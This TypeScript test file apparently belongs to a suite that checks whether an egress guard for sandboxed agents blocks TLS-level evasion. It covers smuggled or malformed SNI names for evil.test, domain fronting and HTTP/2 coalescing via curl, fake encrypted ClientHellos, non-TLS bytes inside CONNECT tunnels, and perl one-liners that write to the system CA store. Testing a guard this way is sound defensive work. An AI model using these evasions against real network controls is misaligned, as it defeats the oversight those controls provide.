// Attempts 31 to 40: what is said in a tunnel to an allowed host, and who answers at its end.
// Hellos are made up and carry a mark, so that one that arrives is seen to, whether or not anybody answers it.

import type { Attempt, Path, Variant } from '../attempt.ts';
import { extensionOf, helloMessage, helloOf, recordsOf, serverNames } from '../client-hello.ts';
import { inTunnel, markedHello, modelPaths, modelRequest, perl, requestPaths, requestTo, tunnelPaths } from './exchanges.ts';

const group = 'TLS';

const said = (name: string, bytes: (mark: string) => readonly (string | Uint8Array)[], pauseMs = 0): Variant => ({
  name,
  does: inTunnel(bytes, pauseMs),
});

const marked = (mark: string): Buffer => extensionOf(0x7a7a, Buffer.from(mark));

/** encrypted_client_hello (RFC 9849): an outer one with a made-up configuration, as GREASE also looks. */
const hiddenHello = (mark: string): Buffer =>
  extensionOf(
    0xfe0d,
    Buffer.concat([Buffer.from([0, 0, 1, 0, 1, 7, 0, 32]), Buffer.alloc(32, 1), Buffer.from([0, 64]), Buffer.from(mark.padEnd(64, '.'))]),
  );

const serverNameOf = (content: Uint8Array): Buffer => extensionOf(0, content);

const pieces = (bytes: Buffer, size: number): readonly Buffer[] =>
  Array.from({ length: Math.ceil(bytes.length / size) }, (_, index) => bytes.subarray(index * size, (index + 1) * size));

const overSocks: Attempt['ways'] = [
  { paths: ['socks'], expected: 'not applicable', missing: 'socks listener' },
  { paths: ['transparent'], expected: 'not applicable', missing: 'transparent redirection' },
];

const notSeenInside = 'what is encrypted end to end is seen by nobody between the ends; name hosts of one owner in rules';

const evil = serverNames('evil.test');
const allowed = serverNames('allowed.test');

/** A whole exchange over TLS through the tunnel, by the jail's own client. `curl` is what agents have. */
const throughTls = (
  id: string,
  name: string,
  fields: string,
  paths: readonly Path[],
  host = 'allowed.test',
  path = '/',
): Attempt['ways'][number] => ({
  paths,
  expected: 'declared limit',
  why: notSeenInside,
  variants: [
    {
      name,
      does: (mark) => ({
        program: 'sh',
        text: `curl -sSk --max-time 10 ${fields} https://${host}${path}${mark}-${id} | grep -q arrived`,
      }),
    },
  ],
});

export const tls: readonly Attempt[] = [
  {
    id: '31',
    group,
    what: 'a tunnel to an allowed host, in which TLS asks for another',
    ways: [
      {
        paths: tunnelPaths,
        expected: 'deny',
        variants: [
          said('another host', (mark) => [markedHello(mark, evil)]),
          said('a host that ends as the allowed one', (mark) => [markedHello(mark, serverNames('evilallowed.test'))]),
        ],
      },
      ...overSocks,
    ],
  },
  {
    id: '32',
    group,
    what: 'TLS asks for the allowed host, and the request inside names another (domain fronting)',
    ways: [throughTls('32', 'another Host', "-H 'Host: evil.test'", ['jail-connect'])],
  },
  {
    id: '32b',
    group,
    what: 'a plain request to an allowed host whose Host names another',
    ways: [
      {
        paths: requestPaths,
        expected: 'deny',
        variants: [
          {
            name: 'another Host',
            does: (mark) => ({ parts: [requestTo(`http://allowed.test/${mark}`, '', 'GET', 'evil.test')] }),
            leaked: ({ text }) => /^host: evil/im.test(text),
          },
        ],
      },
    ],
  },
  {
    id: '33',
    group,
    what: 'a ClientHello without a name, with an odd one, with two, in pieces, or that never ends',
    ways: [
      {
        paths: tunnelPaths,
        expected: 'deny',
        variants: [
          said('no name', (mark) => [helloOf(marked(mark))]),
          said('an address', (mark) => [helloOf(serverNames('11.0.0.66'), marked(mark))]),
          said('two names', (mark) => [helloOf(serverNames('allowed.test', 'evil.test'), marked(mark))]),
          said('two extensions', (mark) => [helloOf(allowed, evil, marked(mark))]),
          said('the wrong one in pieces of a byte', (mark) => pieces(markedHello(mark, evil), 16), 2),
          said('the wrong one over several records', (mark) => [recordsOf(helloMessage([evil, marked(mark)]), 20)]),
          said('not ASCII', (mark) => [helloOf(serverNames('\u0430llowed.test'), marked(mark))]),
          said('a trailing dot on another host', (mark) => [helloOf(serverNames('evil.test.'), marked(mark))]),
          said('a NUL', (mark) => [helloOf(serverNames('allowed.test\0.evil.test'), marked(mark))]),
          said('an empty name', (mark) => [helloOf(serverNames(''), marked(mark))]),
          said('an empty list', (mark) => [helloOf(serverNameOf(Buffer.from([0, 0])), marked(mark))]),
          said('a name of another type', (mark) => [
            helloOf(serverNameOf(Buffer.concat([Buffer.from([0, 7, 9, 0, 4]), Buffer.from('evil')])), marked(mark)),
          ]),
          said('only its beginning', (mark) => [markedHello(mark, evil).subarray(0, 40)]),
          said('a record that claims more than there may be', (mark) => [
            Buffer.concat([Buffer.from([22, 3, 1, 255, 255, 1, 0, 255, 255]), Buffer.from(mark)]),
          ]),
          said('more than 16 KiB', (mark) => [
            recordsOf(helloMessage([allowed, extensionOf(21, Buffer.alloc(20_000)), marked(mark)]), 4_000),
          ]),
        ],
      },
      ...overSocks,
    ],
  },
  {
    id: '34',
    group,
    what: 'an encrypted ClientHello, or the look of one',
    ways: [
      {
        paths: tunnelPaths,
        expected: 'deny',
        variants: [
          said('beside the allowed name', (mark) => [helloOf(allowed, hiddenHello(mark))]),
          said('without a name', (mark) => [helloOf(hiddenHello(mark))]),
        ],
      },
      ...overSocks,
    ],
  },
  {
    id: '35',
    group,
    what: 'other bytes than TLS in a tunnel to a port of TLS',
    ways: [
      {
        paths: tunnelPaths,
        expected: 'deny',
        variants: [
          said('SSH', (mark) => [`SSH-2.0-${mark}\r\n`]),
          said('HTTP', (mark) => [`GET /${mark} HTTP/1.1\r\nHost: allowed.test\r\n\r\n`]),
          said('bytes', (mark) => [Buffer.concat([Buffer.from([0, 1, 2, 3]), Buffer.from(mark)])]),
          said('an alert first', (mark) => [Buffer.concat([Buffer.from([21, 3, 1, 0, 2, 1, 0]), markedHello(mark, evil)])]),
          said('application data first', (mark) => [Buffer.concat([Buffer.from([23, 3, 3, 0, mark.length]), Buffer.from(mark)])]),
          said('SSL 2', (mark) => [Buffer.concat([Buffer.from([0x80, 0x2e, 1, 0, 2]), Buffer.from(mark)])]),
          {
            name: 'bytes that come with the request',
            does: (mark) => ({
              parts: [
                `CONNECT allowed.test:443 HTTP/1.1\r\nHost: kit\r\nProxy-Authorization: Basic %%PROXY-AUTHORITY%%\r\n\r\n${mark} early`,
              ],
              patienceMs: 1_500,
            }),
          },
          {
            name: 'TLS in a tunnel to the port of plain requests, for another host',
            does: (mark) => ({
              parts: [
                'CONNECT allowed.test:80 HTTP/1.1\r\nHost: kit\r\nProxy-Authorization: Basic %%PROXY-AUTHORITY%%\r\n\r\n',
                markedHello(mark, evil),
              ],
            }),
          },
        ],
      },
      ...overSocks,
    ],
  },
  {
    id: '36',
    group,
    what: 'the upstream shows a certificate that nobody trusts, for another name',
    ways: [
      {
        paths: modelPaths,
        expected: 'deny',
        variants: [
          {
            name: 'a model behind a strange certificate',
            does: (mark) => ({
              parts: [modelRequest(`{"model":"strange-1","max_tokens":1,"messages":[{"role":"user","content":"${mark}"}]}`)],
              patienceMs: 5_000,
            }),
          },
        ],
      },
      { paths: tunnelPaths, expected: 'not applicable', missing: 'inspection of TLS' },
    ],
  },
  {
    id: '37',
    group,
    what: 'a second host on a connection that was allowed for one (coalescing in HTTP/2)',
    ways: [throughTls('37', 'another host on the same connection', "-H 'Host: shared.test'", ['jail-connect'])],
  },
  {
    id: '38',
    group,
    what: 'HTTP/2 where only HTTP/1.1 is read: with prior knowledge, by upgrade',
    ways: [
      {
        paths: requestPaths,
        expected: 'deny',
        variants: [
          {
            name: 'prior knowledge at the door',
            does: (mark) => ({ parts: [`PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${mark}`], patienceMs: 1_500 }),
          },
          {
            name: 'an upgrade',
            does: (mark) => ({
              parts: [requestTo(`http://allowed.test/upgrade-${mark}`, 'Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n')],
              patienceMs: 1_500,
            }),
            leaked: ({ text }) => /^upgrade:/im.test(text),
          },
        ],
      },
      {
        paths: tunnelPaths,
        expected: 'deny',
        variants: [said('prior knowledge in a tunnel', (mark) => [`PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${mark}`])],
      },
    ],
  },
  {
    id: '39',
    group,
    what: 'a session that another name began is resumed, or its handshake renegotiated',
    ways: [
      {
        paths: tunnelPaths,
        expected: 'deny',
        variants: [said('a ticket with another name', (mark) => [helloOf(evil, extensionOf(35, Buffer.from(mark)))])],
      },
      throughTls('39', 'what is said after the handshake', '', ['jail-connect']),
    ],
  },
  {
    id: '40',
    group,
    what: 'the key of an authority that the guard signs with is read, or one added',
    ways: [
      { paths: ['connect'], expected: 'not applicable', missing: 'inspection of TLS' },
      {
        paths: ['jail'],
        expected: 'deny',
        variants: [
          perl(
            'an authority is added to those of the system',
            (mark) => `exit(open(F, '>', "/etc/ssl/certs/${mark}.pem") && unlink("/etc/ssl/certs/${mark}.pem") ? 0 : 1)`,
          ),
          perl(
            'those of the system are written over',
            () =>
              `exit((open(F, '>>', '/etc/ssl/certs/ca-certificates.crt') || open(F, '>>', '/etc/pki/tls/certs/ca-bundle.crt')) ? 0 : 1)`,
          ),
        ],
      },
    ],
  },
];
